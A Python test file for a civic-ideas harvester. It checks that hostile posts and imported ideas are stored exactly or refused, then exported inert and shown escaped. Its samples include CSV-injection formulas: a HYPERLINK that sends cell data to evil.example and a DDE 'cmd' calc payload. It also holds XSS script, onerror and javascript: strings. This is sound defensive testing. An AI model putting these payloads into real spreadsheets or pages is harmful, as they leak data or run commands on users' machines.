"""Hostile text (issue 7, point 2): stored exactly or refused with a reason, exported inert.

Posts come from the three platforms' local servers through the real client libraries, and
ideas through `import` (JSONL and CSV). Texts carry spreadsheet formula triggers, HTML and
script, RTL overrides, zero-width characters, every kind of emoji, 10,000+ characters, NUL
bytes and lone UTF-16 surrogates (half of a cut-off emoji). Runs on SQLite and PostgreSQL:
PostgreSQL refuses NUL in text, so a NUL must never reach the insert. The same database then
goes through classify and digest: the page shows the texts escaped (tests/test_digest.py
checks the digest's escaping rules one by one; here it is the whole path from the platforms).
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from harvester.retry import RetryPolicy
from innoverheid.config import Config
from innoverheid.pipeline import run_harvest
from innoverheid.sandbox.bluesky import BlueskyServer
from innoverheid.sandbox.mastodon import MastodonFake
from innoverheid.sandbox.sample import SamplePost
from innoverheid.sandbox.server import LocalServer, Response
from innoverheid.sandbox.x import XServer
from storage.labels import set_person_labels
from storage.models import Post as PostRow

pytestmark = pytest.mark.postgres

T0 = datetime(2025, 3, 3, 9, 0, tzinfo=UTC)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")  # OWASP: CSV injection
SURROGATE_MARK = "SURROGATE-MARK"  # the fakes send it as the JSON escape \ud83d, with no partner
EVIL_NAME = "=cmd|' /C calc'!A0"

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"klik") #innoverheid',
    "plus": "+31 6 12345678 bel me #innoverheid",
    "minus": "-2+3 #innoverheid",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0 #innoverheid",
    "tab": "\t=1+1 begint met een tab #innoverheid",
    "cr": "\r=1+1 begint met een CR #innoverheid",
    "script": "<script>alert('innoverheid-xss')</script> #innoverheid",
    "html": '<img src=x onerror="alert(1)"> &amp; &lt;b&gt; <a href="javascript:x">klik</a> #innoverheid',
    "rtl": "\u202egnirts\u202c RTL override en \u2067isolaat\u2069 #innoverheid",
    "zero_width": "zero\u200bwidth\u200cnon\u200djoiner\u2060word\ufeffbom #innoverheid",
    "emoji": ("ZWJ 👩🏽‍💻 👨‍👩‍👧‍👦 🏳️‍🌈 🏳️‍⚧️ skin 👍🏻👍🏼👍🏽👍🏾👍🏿 flags 🇳🇱🇪🇺 🏴󠁧󠁢󠁳󠁣󠁴󠁿 "
              "keycaps 1️⃣ #️⃣ *️⃣ 🔟 VS ❤️ ☺︎ new 🫠🪿 #innoverheid"),
    "long": "Lang idee: " + "meer ruimte voor de professional, " * 320 + "#innoverheid",
    "quotes": 'quotes "double" en \'single\', komma\'s; puntkomma\'s\nen een tweede regel #innoverheid',
}
assert len(HOSTILE["long"]) > 10_000
NUL_TEXT = "nul\x00byte in een post #innoverheid"
SURROGATE_TEXT = f"afgekapte emoji {SURROGATE_MARK} #innoverheid"


def as_html_shows(text: str) -> str:
    """Mastodon sends HTML, where runs of whitespace (tab, CR) are one space and edges carry none."""
    lines = [re.sub(r"[ \t\r\f\v]+", " ", line).strip(" ") for line in text.split("\n")]
    return re.sub(r"\n{3,}", "\n\n", "\n".join(lines)).strip()


# What each platform delivers of what its user typed: Bluesky the record's text as is; X
# trims a tweet; Mastodon only has HTML.
DELIVERED = {"bluesky": lambda t: t, "x": str.strip, "mastodon": as_html_shows}


def samples(with_surrogate: bool) -> list[SamplePost]:
    texts = dict(HOSTILE, nul=NUL_TEXT)
    if with_surrogate:
        texts["surrogate"] = SURROGATE_TEXT
    names = [EVIL_NAME, "\u202eRTL naam", "Emoji 👩🏽‍💻 naam", "+31 naam", "<b>vet</b>"]
    return [SamplePost(id=key, text=text, author=f"auteur{i}", author_name=names[i % len(names)],
                       created_at=T0 + timedelta(minutes=i)) for i, (key, text) in enumerate(texts.items())]


def send_lone_surrogates(server: LocalServer) -> None:
    """Make the server write the marker as a bare high surrogate escape, as a platform cutting text in
    UTF-16 units can (no JSON encoder in Python would produce it from a valid string)."""
    dispatch = server.dispatch

    def patched(req):
        resp = dispatch(req)
        return Response(resp.status, resp.encoded().replace(SURROGATE_MARK.encode(), b"\\ud83d"), resp.headers)

    server.dispatch = patched  # type: ignore[method-assign]


def start_fake(name: str, posts: list[SamplePost]):
    fake = {"bluesky": BlueskyServer, "mastodon": MastodonFake, "x": XServer}[name](posts).start()
    for server in getattr(fake, "servers", {"": fake}).values():
        send_lone_surrogates(server)
    if name == "bluesky":
        ids = {p.id: fake.uris[p.id] for p in posts}
    elif name == "x":
        ids = {p.id: fake.tweet_id(p.id) for p in posts}
    else:
        ids = {p.id: json.loads(fake.federation.status_bytes(fake.name, p.id))["uri"] for p in posts}
    return fake, ids


def harvest(db, name: str, state_dir: Path):
    """Harvest one platform's hostile posts; returns (report, posts, {sample id: source_id})."""
    # The atproto SDK parses JSON with pydantic, which refuses a lone surrogate outright (the page
    # fails and is retried, then given up); Bluesky stores records as CBOR, which cannot hold one.
    posts = samples(with_surrogate=name != "bluesky")
    fake, ids = start_fake(name, posts)
    try:
        config: dict = {"harvest": {"timeout": 5, "state_dir": str(state_dir)}}
        env: dict[str, str] = {}
        fake.configure(config, env)
        config["sources"][name]["page_size"] = 10  # several pages: a refused post must not cost its page
        report = run_harvest(Config.model_validate(config), db, [name], env=env,
                             policy=RetryPolicy(max_retries=1, sleep=lambda s: None))
    finally:
        fake.stop()
    return report.sources[0], posts, ids


def stored(db, source: str | None = None) -> dict[str, dict]:
    t = PostRow.__table__
    stmt = select(t)
    if source:
        stmt = stmt.where(t.c.source == source)
    with db.read() as conn:
        return {r["source_id"]: dict(r) for r in conn.execute(stmt).mappings()}


# ---------------------------------------------------------------- harvested posts


@pytest.mark.parametrize("name", ["bluesky", "mastodon", "x"])
def test_hostile_posts_are_stored_exactly_or_skipped_with_a_reason(db, tmp_path, name):
    report, posts, ids = harvest(db, name, tmp_path / "state")
    rows = stored(db, name)
    assert report.status == "ok" and report.errors == []
    refused = {"nul": "NUL byte"} | ({"surrogate": "surrogate"} if name != "bluesky" else {})
    assert report.skipped == len(refused)
    for key, words in refused.items():
        assert ids[key] not in rows
        assert any(words in reason for reason in report.skipped_reasons), report.skipped_reasons
    for p in posts:
        if p.id in refused:
            continue
        row = rows[ids[p.id]]
        assert row["text"] == DELIVERED[name](p.text), p.id
        assert row["author_name"] == p.author_name
        assert row["raw"]  # the payload as the platform sent it is kept
    assert len(rows) == len(posts) - len(refused)


def test_the_check_names_the_column_and_lets_valid_text_through():
    from harvester.runner import unstorable

    assert unstorable({"text": "ok", "author_name": "a\x00b"}) == (
        "author_name contains a NUL byte, which the database cannot store")
    assert "surrogate" in unstorable({"text": "half an emoji \ud83d"})
    assert unstorable({"text": "".join(HOSTILE.values()), "n": 1, "none": None}) is None


# ---------------------------------------------------------------- imported ideas


def write_csv(path: Path, rows: list[dict]) -> None:
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=["id", "text", "author"])
        writer.writeheader()
        writer.writerows(rows)


def line_of(path: Path, ident: str) -> int:
    """The 1-based line (counting LF, as grep -n and wc -l do) on which the record with this id starts."""
    content = path.read_bytes()
    return content[: content.index(ident.encode())].count(b"\n") + 1


@pytest.mark.parametrize("kind", ["jsonl", "csv"])
def test_hostile_ideas_import_exactly_or_are_refused_with_their_line(workdir, run_cli, db, kind):
    rows = [{"id": f"{kind}-{key}", "text": text, "author": EVIL_NAME} for key, text in HOSTILE.items()]
    rows.insert(3, {"id": f"{kind}-nul", "text": NUL_TEXT, "author": "anne"})
    rows.insert(7, {"id": f"{kind}-nul-author", "text": "gewoon idee", "author": "an\x00ne"})
    path = workdir / f"ideas.{kind}"
    if kind == "jsonl":
        lines = [json.dumps(r, ensure_ascii=False) for r in rows]
        lines.insert(5, '{"id": "jsonl-surrogate", "text": "half \\ud83d emoji"}')
        lines.insert(9, '{"text": "half \\udc00 emoji, no id"}')
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    else:
        write_csv(path, rows)  # multi-line and CR cells are quoted, as Excel writes them

    result = run_cli("import", str(path), "--source", "workshop")
    assert result.exit_code == 1  # some rows refused, the rest stored
    refused = {f"{kind}-nul": "NUL byte", f"{kind}-nul-author": "'author' value contains a NUL byte"}
    if kind == "jsonl":
        refused |= {"jsonl-surrogate": "surrogate", "half \\udc00 emoji, no id": "surrogate"}
    for ident, words in refused.items():
        line = line_of(path, ident)
        assert re.search(rf"line {line}: rejected: .*{re.escape(words)}", result.stderr), (ident, result.stderr)
    assert f"imported {len(HOSTILE)}, already known 0, rejected {len(refused)}" in result.stdout

    rows_in_db = stored(db, "workshop")
    assert {k: rows_in_db[f"{kind}-{k}"]["text"] for k in HOSTILE} == HOSTILE  # exactly, CR and tab included
    assert {r["author_handle"] for r in rows_in_db.values()} == {EVIL_NAME}


# ---------------------------------------------------------------- exports


@pytest.fixture
def hostile_db(workdir, run_cli, db, tmp_path):
    """Hostile posts from all three platforms plus imported hostile ideas, in the workdir's database."""
    for name in ("bluesky", "mastodon", "x"):
        harvest(db, name, tmp_path / "state")
    ideas = workdir / "ideas.jsonl"
    ideas.write_text("".join(json.dumps({"id": f"idea-{k}", "text": t, "author": EVIL_NAME}, ensure_ascii=False)
                             + "\n" for k, t in HOSTILE.items()), encoding="utf-8")
    assert run_cli("import", str(ideas)).exit_code == 0
    rows = stored(db)
    assert len(rows) == 4 * len(HOSTILE)  # three platforms and the file; NUL and surrogate posts refused
    return rows


def assert_inert(value: str, where: str) -> None:
    assert not value.startswith(TRIGGERS), f"{where}: a spreadsheet would evaluate {value[:40]!r}"


def test_csv_export_has_no_live_formula_in_any_cell(workdir, run_cli, hostile_db):
    out = workdir / "all.csv"
    assert run_cli("export", "--out", str(out)).exit_code == 0
    with out.open(encoding="utf-8", newline="") as fh:
        table = list(csv.reader(fh))
    header, body = table[0], table[1:]
    assert len(body) == len(hostile_db)
    for r, row in enumerate(body, start=2):
        for c, value in enumerate(row):
            assert_inert(value, f"row {r}, column {header[c]}")
    by_id = {row[header.index("source_id")]: dict(zip(header, row, strict=True)) for row in body}
    for sid, post in hostile_db.items():
        exported = by_id[sid]["text"]
        # What it said is kept: a leading apostrophe is the only change, and only where needed.
        assert exported == ("'" + post["text"] if post["text"].startswith(TRIGGERS) else post["text"])
        assert by_id[sid]["author_name"] in (post["author_name"] or "", "'" + (post["author_name"] or ""))


def test_xlsx_export_has_no_live_formula_in_any_cell(workdir, run_cli, hostile_db):
    out = workdir / "all.xlsx"
    assert run_cli("export", "--out", str(out)).exit_code == 0
    with zipfile.ZipFile(out) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in zf.read(n) or b"<f " in zf.read(n) for n in sheets)
    ws = load_workbook(out).active
    header = [c.value for c in ws[1]]
    n = 0
    for row in ws.iter_rows(min_row=2):
        n += 1
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert_inert(cell.value, cell.coordinate)
                assert len(cell.value) <= 32_767  # Excel's cell limit: longer cells make it "repair" the file
    assert n == len(hostile_db)
    texts = {row[header.index("source_id")].value: row[header.index("text")].value for row in ws.iter_rows(min_row=2)}
    emoji = next(sid for sid, p in hostile_db.items() if p["text"] == HOSTILE["emoji"])
    assert texts[emoji] == HOSTILE["emoji"]  # every emoji survives the spreadsheet


def test_jsonl_and_parquet_exports_round_trip_every_text_byte_for_byte(workdir, run_cli, hostile_db):
    out = workdir / "all.jsonl"
    assert run_cli("export", "--out", str(out)).exit_code == 0
    raw = out.read_bytes()
    lines = raw.split(b"\n")
    assert lines[-1] == b"" and len(lines) - 1 == len(hostile_db)  # CR, LS and PS stay escaped inside lines
    exported = {r["source_id"]: r for r in map(json.loads, lines[:-1])}
    for sid, post in hostile_db.items():
        assert exported[sid]["text"].encode("utf-8") == post["text"].encode("utf-8")
        assert exported[sid]["author_name"] == post["author_name"]
    imported = {sid.removeprefix("idea-"): r["text"] for sid, r in exported.items() if sid.startswith("idea-")}
    assert imported == HOSTILE  # and what was imported is what was written in the first place

    pq_out = workdir / "all.parquet"
    assert run_cli("export", "--out", str(pq_out)).exit_code == 0
    table = pq.read_table(pq_out).to_pylist()
    assert {r["source_id"]: r["text"] for r in table} == {sid: p["text"] for sid, p in hostile_db.items()}


def test_pseudonymised_export_of_hostile_authors_is_inert(workdir, run_cli, hostile_db, monkeypatch):
    monkeypatch.setenv("INNOVERHEID_PSEUDONYM_KEY", "hostile-test-key")
    out = workdir / "pseudo.csv"
    assert run_cli("export", "--out", str(out), "--pseudonymize").exit_code == 0
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(hostile_db)
    for r in rows:
        assert re.fullmatch(r"p_[0-9a-f]{16}", r["author_handle"]) and re.fullmatch(r"p_[0-9a-f]{16}", r["author_name"])
    assert EVIL_NAME not in out.read_text(encoding="utf-8")


def test_a_text_longer_than_an_excel_cell_is_cut_with_a_note_in_xlsx_only(workdir, run_cli, db):
    text = "Heel lang idee " + "x" * 40_000
    src = workdir / "long.jsonl"
    src.write_text(json.dumps({"id": "long", "text": text}) + "\n", encoding="utf-8")
    assert run_cli("import", str(src)).exit_code == 0
    xlsx, jsonl = workdir / "long.xlsx", workdir / "long.jsonl.out"
    assert run_cli("export", "--out", str(xlsx)).exit_code == 0
    assert run_cli("export", "--out", str(jsonl), "--format", "jsonl").exit_code == 0
    ws = load_workbook(xlsx).active
    header = [c.value for c in ws[1]]
    cell = ws.cell(row=2, column=header.index("text") + 1).value
    assert len(cell) <= 32_767 and cell.startswith("Heel lang idee xxx") and "32,767" in cell
    assert json.loads(jsonl.read_text(encoding="utf-8"))["text"] == text  # the full text is in JSONL


def test_csv_cells_are_neutralised_for_every_trigger_even_after_quoting(tmp_path):
    """The writer itself, on values no platform sends (a cell that is only a trigger, a quote first)."""
    from report.export import neutralise

    for trigger in TRIGGERS:
        assert neutralise(trigger) == "'" + trigger
        assert neutralise(trigger + "1+1") == "'" + trigger + "1+1"
    assert neutralise('"=1+1"') == '"=1+1"'  # a quote first: a spreadsheet shows text
    assert neutralise("'=1+1") == "'=1+1"
    buf = io.StringIO()
    csv.writer(buf).writerow([neutralise(v) for v in ("=1", "\r=1", "\t=1")])
    assert [c[0] for c in next(csv.reader(io.StringIO(buf.getvalue())))] == ["'", "'", "'"]


def test_the_digest_shows_hostile_posts_escaped(workdir, run_cli, db, hostile_db):
    (workdir / "config.yaml").write_text("report:\n  top_ideas: 100\n", encoding="utf-8")
    assert run_cli("classify").exit_code == 0
    with db.write() as conn:  # a reviewer put every post under one theme: all of them are shown
        for post_id in conn.execute(select(PostRow.id)).scalars().all():
            set_person_labels(conn, post_id, ["open_cultuur"], "Redacteur")
    result = run_cli("digest", "--out", str(workdir / "digest"))
    assert result.exit_code == 0, result.output
    html = (workdir / "digest" / "digest.html").read_text(encoding="utf-8")
    md = (workdir / "digest" / "digest.md").read_text(encoding="utf-8")
    lowered = html.lower()
    for raw in ("<script", "<img", "onerror=\"", "<a href=\"javascript", "<b>vet</b>"):
        assert raw not in lowered, raw
    assert "&lt;script&gt;alert(&#39;innoverheid-xss&#39;)&lt;/script&gt;" in html  # shown, as text
    assert "&lt;img src=x onerror=&#34;alert(1)&#34;&gt;" in html and "&lt;b&gt;vet&lt;/b&gt;" in html
    assert re.search("<bdi>\u202egnirts", html)  # a direction override is isolated on the page
    assert "<script" not in md.lower() and "&lt;script&gt;" in md
    assert "\u202e" not in md  # plain text cannot isolate it: it is dropped there
